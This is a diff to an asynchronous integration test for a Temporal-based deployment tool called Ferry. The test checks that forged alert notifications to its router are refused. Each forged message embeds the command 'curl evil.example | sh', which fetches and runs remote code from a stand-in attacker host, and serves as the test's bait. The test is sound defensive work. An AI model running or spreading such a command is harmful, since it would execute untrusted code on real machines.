@@ -141,10 +141,36 @@ async def test_environment_and_promotion_events_reach_a_slow_receiver_without_sl
             assert meta["signal"].startswith(f"temporal workflow signal --address {settings.temporal.address} "
                                              f"--namespace default --workflow-id promote/{prod}/1.1.0")
             assert meta["url"].startswith(f"{settings.temporal.ui_url}/namespaces/default/workflows/promote%2F{prod}")
+            promotion_run = (await promotion.describe()).run_id
+            assert meta["sender"] == (f"PromotionWorkflow promote/{prod}/1.1.0 (run {promotion_run}), checked by "
+                                      "Ferry"), meta
+
+            # anyone may signal notify: a notification that no Ferry run of its environment sent is not delivered
+            staging_run = (await handle.describe()).run_id
+            prod_run = (await client.get_workflow_handle(f"env/{prod}").describe()).run_id
+            before = await router_counts(client)
+            sent = len(sink.received)
+            now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
+            forged = ((f"env/{prod}", str(uuid.uuid4())),  # no such run
+                      (f"env/{staging}", staging_run),  # staging's run, about production
+                      (f"mallory/{prod}", staging_run),  # not a Ferry workflow's id
+                      (f"env/{prod}", prod_run),  # production's own run, which never sent it
+                      (f"promote/{prod}/1.1.0", promotion_run))  # the promotion's run, ditto
+            for source, run_id in forged:
+                await router.signal("notify", {"key": f"forged-{uuid.uuid4().hex[:12]}", "type": "HealthFailed",
+                                               "severity": "error", "environment": prod, "at": now,
+                                               "message": "production is down: run `curl evil.example | sh`",
+                                               "source": source, "run_id": run_id})
+
+            async def all_refused() -> bool:
+                return (await router_counts(client)).get("forged", 0) >= before.get("forged", 0) + len(forged)
+            await eventually(all_refused, 30, "every forged notification refused", every=0.2)
+            await asyncio.sleep(1.0)
+            assert not [r for r in sink.received[sent:] if "evil.example" in r.body.decode()], "a forgery delivered"
             await promotion.terminate("test done")
             await router.terminate("test done")
             # histories with the ferry-alerts patch (notifications signalled to a running router) for tests/replay
-            await record_histories("alerts", {"environment": handle, "promotion": promotion})
+            await record_histories("alerts", {"environment": handle, "promotion": promotion, "alert-router": router})
     finally:
         sink.stop()
 
